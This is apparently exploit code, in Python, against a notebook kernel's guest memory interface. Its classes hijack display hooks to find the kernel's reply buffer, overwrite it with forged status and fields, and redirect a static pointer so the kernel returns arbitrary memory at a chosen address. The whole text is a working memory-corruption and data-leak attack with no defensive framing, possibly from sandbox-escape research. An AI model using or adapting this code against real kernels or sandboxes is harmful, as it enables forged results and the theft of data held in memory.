# The reply to a cell, forged: needs memory.py. The kernel asks a value for one form after the other and writes them into
# the reply (docs/formats/guest-abi.md); when it asks for the last one, the reply is there to be overwritten.
VALUE, ERROR_TYPE, ERROR_MESSAGE, UNKNOWN = 16, 17, 18, 99
ROOM = 2000


def padded(data):
    return data + bytes(-len(data) % 4)


def field(tag, data):
    return struct.pack("<II", tag, len(data)) + padded(data)


def entry(mime, data):
    return field(VALUE, struct.pack("<I", len(mime)) + padded(mime) + data)


class Forged:
    """A value that makes the reply of its cell this status, these fields and, to fill it up, one that is ignored."""

    def __init__(self, status, *fields, fill=True):
        self.frame = struct.pack("<Ii", status, 0) + b"".join(fields)
        self.fill = fill

    def __repr__(self):
        return "form"

    def _repr_html_(self):
        return "mark" * (ROOM // 4)

    def start(self):
        # Static memory is below the heap: the first place is the reply, not the text that is looked for.
        return memory.find(struct.pack("<I", 9) + padded(b"text/html") + b"mark" * 20, 1, readable) - len(
            struct.pack("<Ii", 0, 0) + entry(b"text/plain", b"form") + struct.pack("<II", 0, 0))

    def _repr_png_(self):
        start = self.start()
        size = len(struct.pack("<Ii", 0, 0) + entry(b"text/plain", b"form") + entry(b"text/html", bytes(ROOM)))
        frame = self.frame
        if self.fill:
            frame += field(UNKNOWN, bytes(size - len(frame) - 8))
        memory[start:start + len(frame)] = frame


class Moved(Forged):
    """A value that has the kernel send `length` bytes at `address` as the reply of its cell."""

    def __init__(self, address, length):
        self.target = address, length

    def _repr_png_(self):
        start = self.start()
        # Among the static data: pointer, length, and the size of the buffer that it points to.
        low, pointer = start - (1 << 20), -1
        while memory[pointer + 8:pointer + 12] != struct.pack("<I", 4096):
            pointer = low = memory.find(struct.pack("<I", start), low + 1, start + (1 << 20))
        memory[pointer:pointer + 8] = struct.pack("<II", *self.target)
